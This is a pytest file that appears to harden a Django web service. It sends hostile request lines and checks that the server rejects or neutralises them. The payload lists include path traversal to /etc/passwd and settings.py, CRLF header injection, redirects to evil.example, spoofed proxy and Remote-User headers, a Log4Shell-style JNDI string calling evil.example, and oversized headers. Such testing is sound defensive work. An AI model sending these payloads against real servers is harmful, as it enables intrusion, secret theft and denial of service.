"""Addresses, hosts and other lines of a head that no honest client would send."""

import pytest

from tests.applications import API, Desk
from tests.hostile.wire import Line, ask, of, request
from tests.web import Web

pytestmark = pytest.mark.django_db(transaction=True)

ADDRESSES = [
    *("http://evil.example/api/v1/parties", "http://evil.example", "HTTP://LOCALHOST/api/v1/parties"),
    *("//evil.example/%2e%2e", "///evil.example", "/\\evil.example", "*", "?", "#", "parties", ""),
    *("/api/v1/../../admin/", "/api/v1/..%2f..%2fadmin/", "/api/v1/%2e%2e/%2e%2e/admin/", "/api/v1//parties"),
    *(
        "/api/v1/./parties",
        "/api/v1/parties/..",
        "/api/v1/parties%00",
        "/api/v1/parties;x=y",
        "/API/V1/parties",
    ),
    *("/api/v1/parties%0d%0aX-Injected:%20yes", "/admin%0d%0aX-Injected:%20yes", "//evil.example%0d%0a/.."),
    *("/api/v1/queues/a%2Fb/pull", "/api/v1/queues/..%2F..%2F/pull", "/api/v1/interactions/1%2e0"),
    *("/static/../config/settings.py", "/static/..%2f..%2fconfig/settings.py", "/static//etc/passwd"),
    *("/static/%2e%2e/%2e%2e/manage.py", "/static/%5c..%5cmanage.py", "/admin/..;/", "/%", "/%zz"),
    *("/%c0%ae%c0%ae/", "/%ff%fe", "/api/v1/" + "a/" * 20_000, "/" + "%41" * 20_000, "/x" * 50_000),
    *("/api/v1/interactions?" + "a=b&" * 10_000, "/api/v1/interactions?" + "%" * 1000),
    *("/admin/login/?next=//evil.example", "/admin/jsi18n/?language=../../etc/passwd"),
    *("/api/schema/?format=../../x", "/api/schema/?lang=../../x", "/api/docs/?url=//evil.example/x.json"),
]


def test_addresses(site: Web, alice: Desk) -> None:
    for address in ADDRESSES:
        answer = ask(site, request(of(alice), path=address))
        head = answer.raw.partition(b"\r\n\r\n")[0].lower()
        assert b"\r\nx-injected" not in head, address
        assert not any(b"location: " + to in head for to in (b"//", b"http", b"/\\")), address
        assert b"root:" not in answer.raw and b"SECRET_KEY" not in answer.raw, address


def test_raw_bytes_in_an_address(site: Web) -> None:
    for path in (b"/\xff\xfe", "/é".encode(), b"/\0", b"/a b", b"/\x7f"):
        ask(site, request().replace((API + "parties").encode(), path))


HOSTS: list[Line] = [
    *("evil.example", "localhost@evil.example", "localhost:80@evil.example", "localhost:x", "[::1"),
    *(
        "127.0.0.1.evil.example",
        "localhost, evil.example",
        "localhost\tevil.example",
        "é",
        "a" * 300,
        "",
        " ",
    ),
    *("..localhost", "localhost/../", "localhost#@evil.example", b"local\xffhost", "localhost%00"),
]


def test_hosts(site: Web) -> None:
    """No other name than those the server goes by, wherever it is asked."""
    for host in HOSTS:
        line = b"Host: " + (host if isinstance(host, bytes) else host.encode())
        for path in (API + "parties", "/admin/login/"):
            assert ask(site, request(host=line, path=path)).statuses == [400], (host, path)
    assert ask(site, request("Host: evil.example")).statuses == [400]
    assert ask(site, request("X-Forwarded-Host: evil.example", path="/admin/login/")).statuses == [200]


FORWARDED = [
    *("X-Forwarded-Host: evil.example", "X-Forwarded-Proto: https", "X-Forwarded-Prefix: /evil"),
    *(
        "X-Forwarded-Port: 666",
        "X_Forwarded_Host: evil.example",
        "X-Host: evil.example",
        "X-Real-IP: 192.0.2.1",
    ),
    *("Forwarded: for=192.0.2.1;host=evil.example;proto=https", "X-HTTP-Method-Override: DELETE"),
    *(
        "X-Forwarded-User: root",
        "Remote-User: root",
        "Remote_User: root",
        "Script-Name: /evil",
        "Path-Info: /x",
    ),
]


def test_what_only_a_proxy_may_say(site: Web, alice: Desk) -> None:
    """Without a proxy nobody says so: the answer is the one without the line."""
    for path in (API + "parties", "/admin/", "/admin", "/"):
        plain = ask(site, request(path=path))
        for line in FORWARDED:
            answer = ask(site, request(line, path=path))
            assert answer.statuses == plain.statuses, line
            assert b"evil" not in answer.raw, line
            assert b"location: https:" not in answer.raw, line
    for line in FORWARDED:
        assert ask(site, request(line, of(alice))).statuses == [200], line


ODD: list[list[Line]] = [
    ["Range: bytes=0-0,-1,0-18446744073709551615" + ",0-1" * 1000],
    ['If-None-Match: "' + "a" * 5000 + '"', "If-Modified-Since: yesterday", "If-Match: *"],
    ["If-Modified-Since: Thu, 99 Foo 99999 99:99:99 GMT", "If-Unmodified-Since: " + "9" * 1000],
    ["If-Modified-Since: Thu, 01 Jan 99999999999 00:00:00 GMT"],
    ["Accept-Language: " + ",".join(f"x{n};q=0.{n}" for n in range(5000))],
    ["Accept-Language: ../../etc/passwd", "Accept-Charset: x"],
    ["Accept-Encoding: " + "gzip," * 5000, "TE: trailers, deflate"],
    ["Accept: " + "*/*;q=" * 1000, "Accept: text/csv, application/json; indent=999999999999"],
    ["Cookie: " + "; ".join(f"a{n}=b" for n in range(5000))],
    [b"Cookie: =; ;;; sessionid=\x01\"; csrftoken=<script>"],
    [b"Cookie: sessionid=\xff\xfe; csrftoken=\xff"],
    ["Idempotency-Key: " + "k" * 300, "Last-Event-ID: ../../x\t'"],
    ["Connection: keep-alive, close, Host, Authorization", "Keep-Alive: timeout=999999"],
    ["User-Agent: ${jndi:ldap://evil.example/a}", "Referer: javascript:alert(1)", "Origin: null"],
    ["Content-Type: multipart/form-data; boundary=" + "b" * 5000],
    [b"X-\xff: y", "Priority: u=999", "Sec-Fetch-Site: evil"],
    [f"X-{n}: y" for n in range(4000)],
]  # fmt: skip


def test_odd_headers(site: Web, alice: Desk) -> None:
    paths = (
        API + "parties",
        API + "events/stream?after=?",
        "/admin/login/",
        "/static/interactions/admin.css",
    )
    for lines in ODD:
        for path in paths:
            ask(site, request(of(alice), *lines, path=path))
